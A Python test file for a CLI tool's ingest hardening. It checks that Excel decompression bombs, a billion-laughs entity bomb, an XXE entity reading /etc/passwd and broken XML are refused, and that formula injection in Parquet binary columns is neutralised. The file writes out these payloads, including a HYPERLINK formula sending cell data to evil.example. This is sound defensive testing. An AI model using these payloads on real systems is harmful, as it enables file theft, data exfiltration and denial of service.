"""Hostile files against the real CLI in a child process: Excel decompression and entity bombs, and formulas in
Parquet BINARY columns. Each bomb must end in one line, exit 2, nothing written and under 512 MB of memory."""

from __future__ import annotations

import contextlib
import io
import os
import subprocess
import sys
import zipfile
from pathlib import Path

import pyarrow as pa
import pyarrow.parquet as pq
import pytest
from openpyxl import Workbook

from icpkit.cli import main
from icpkit.ingest.readers import XLSX_MAX_UNPACKED

SPEC = Path(__file__).resolve().parents[1] / "acme-icp.yaml"
MB = 1 << 20
SHEET = "xl/worksheets/sheet1.xml"
HEAD = (
    '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n'
    '<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheetData>'
    '<row r="1"><c r="A1" t="inlineStr"><is><t>account_id</t></is></c><c r="B1" t="inlineStr"><is><t>industry</t>'
    "</is></c></row>"
)
TAIL = "</sheetData></worksheet>"


def _workbook(path: Path, sheet_xml: bytes | None = None, *, sheet_mb: int = 0) -> None:
    """A real workbook from openpyxl, with its sheet part replaced (streamed, so a huge part costs no memory)."""
    wb = Workbook()
    wb.active.append(["account_id", "industry"])
    wb.active.append(["A1", "Software"])
    plain = io.BytesIO()
    wb.save(plain)
    with zipfile.ZipFile(plain) as src, zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as out:
        for item in src.infolist():
            if item.filename != SHEET:
                out.writestr(item, src.read(item))
                continue
            if sheet_xml is not None:
                out.writestr(SHEET, sheet_xml)
                continue
            with out.open(SHEET, "w", force_zip64=True) as part:
                part.write(HEAD.encode())
                row = b'<row><c t="inlineStr"><is><t>A</t></is></c><c t="inlineStr"><is><t>Software</t></is></c></row>'
                block = row * (MB // len(row))
                for _ in range(sheet_mb):  # sheet_rows megabytes of rows
                    part.write(block)
                part.write(TAIL.encode())


# The CLI in a child that writes its own peak RSS (VmHWM, kB) to a file once the command has returned.
_CHILD = (
    "import sys; from pathlib import Path; from icpkit.cli import main; code = main(sys.argv[2:]); "
    "Path(sys.argv[1]).write_text(Path('/proc/self/status').read_text().split('VmHWM:')[1].split()[0]); "
    "sys.exit(code)"
)


def _run(*args: str | Path, cwd: Path) -> tuple[int, str, int]:
    """(exit code, stderr, the child's own peak RSS in MB) of ``icpkit <args>``."""
    peak_file = cwd.parent / f"{cwd.name}.peak"
    proc = subprocess.run(
        [sys.executable, "-c", _CHILD, str(peak_file), *map(str, args)],
        cwd=cwd,
        capture_output=True,
        text=True,
        timeout=300,
        env={**os.environ, "COLUMNS": "200"},
    )
    return proc.returncode, proc.stderr, int(peak_file.read_text()) // 1024


def _refused(tmp_path: Path, hostile: Path, *pieces: str, child: bool = True) -> int:
    """Run ``icpkit score`` on ``hostile`` (in a child, for its peak memory, or in process) and check the refusal:
    exit 2, one line naming the file and ``pieces``, nothing written. Returns the peak RSS in MB (0 in process)."""
    out = tmp_path / "scored.csv"
    before = sorted(p.name for p in tmp_path.iterdir())
    if child:
        code, err, peak = _run("score", hostile, "--spec", SPEC, "--out", out, cwd=tmp_path)
    else:
        stderr = io.StringIO()
        with contextlib.redirect_stderr(stderr), contextlib.redirect_stdout(io.StringIO()):
            code = main(["score", str(hostile), "--spec", str(SPEC), "--out", str(out)])
        err, peak = stderr.getvalue(), 0
    assert code == 2, err
    assert "Traceback" not in err
    lines = err.strip().splitlines()
    assert len(lines) == 1 and lines[0].startswith("error: ") and hostile.name in lines[0], err
    for piece in pieces:
        assert piece in lines[0], lines[0]
    assert sorted(p.name for p in tmp_path.iterdir()) == before
    return peak


def test_a_workbook_that_unpacks_past_the_limit_is_refused(tmp_path: Path) -> None:
    bomb = tmp_path / "bomb.xlsx"
    _workbook(bomb, sheet_mb=(XLSX_MAX_UNPACKED // MB) + 64)  # rows of XML past the unpacked limit
    peak = _refused(tmp_path, bomb, "unpacks to", "decompression bomb")
    print(f"\n{bomb.stat().st_size / MB:.1f} MB workbook unpacking past {XLSX_MAX_UNPACKED // MB} MB: peak {peak} MB")
    assert bomb.stat().st_size < 2 * MB
    assert peak < 512


def test_a_part_packed_past_the_ratio_is_refused(tmp_path: Path) -> None:
    bomb = tmp_path / "ratio.xlsx"
    _workbook(bomb, sheet_mb=40)  # 40 MB of one row repeated: well under the size limit, far over the ratio
    peak = _refused(tmp_path, bomb, "times its packed size", SHEET)
    print(f"\n{bomb.stat().st_size / 1024:.0f} kB workbook, 40 MB sheet: peak {peak} MB")
    assert peak < 512


BILLION_LAUGHS = (
    '<?xml version="1.0"?>\n<!DOCTYPE lolz [<!ENTITY lol "lol">'
    + "".join(f'<!ENTITY lol{i} "{("&lol" + (str(i - 1) if i > 1 else "") + ";") * 10}">' for i in range(1, 10))
    + "]>\n"
    + HEAD.split("\n", 1)[1].replace("account_id", "&lol9;")
    + TAIL
)
EXTERNAL = (
    '<?xml version="1.0"?>\n<!DOCTYPE x [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>\n'
    + HEAD.split("\n", 1)[1].replace("account_id", "&xxe;")
    + TAIL
)


@pytest.mark.parametrize("xml", [BILLION_LAUGHS, EXTERNAL], ids=["entity bomb", "external entity"])
def test_a_sheet_with_a_dtd_is_refused(tmp_path: Path, xml: str) -> None:
    hostile = tmp_path / "dtd.xlsx"
    _workbook(hostile, xml.encode())
    _refused(tmp_path, hostile, "declares a DTD", SHEET, child=False)


def test_a_sheet_that_is_not_xml_is_one_line(tmp_path: Path) -> None:
    hostile = tmp_path / "broken.xlsx"
    _workbook(hostile, HEAD.encode() + b"<row><c>")
    _refused(tmp_path, hostile, "broken XML", child=False)


@pytest.mark.parametrize("engine", ["python", "duckdb"])
def test_formulas_in_parquet_binary_columns_are_neutralised(tmp_path: Path, engine: str) -> None:
    formula = b'=HYPERLINK("http://evil.example/?q="&A1,"Open")'
    table = pa.table(
        {
            "account_id": pa.array([b"A1", b"+A2", b"A3"], pa.binary()),
            "name": pa.array([formula, b"Acme", b"@SUM(1+1)"], pa.binary()),
            "industry": ["Software", "Fintech", "Retail"],
            "employees": [120, 300, 10],
        }
    )
    source = tmp_path / "binary.parquet"
    pq.write_table(table, source)
    out = tmp_path / "scored.csv"
    assert main(["score", str(source), "--spec", str(SPEC), "--engine", engine, "--out", str(out)]) == 0
    text = out.read_text()
    rows = [line.split(",", 1) for line in text.splitlines()[1:]]
    assert [r[0] for r in rows] == ["A1", "'+A2", "A3"]
    assert "'=HYPERLINK(" in text and "'@SUM(1+1)" in text
    assert not any(
        cell.lstrip('"').startswith(("=", "+", "@")) for line in text.splitlines() for cell in line.split(",")
    )
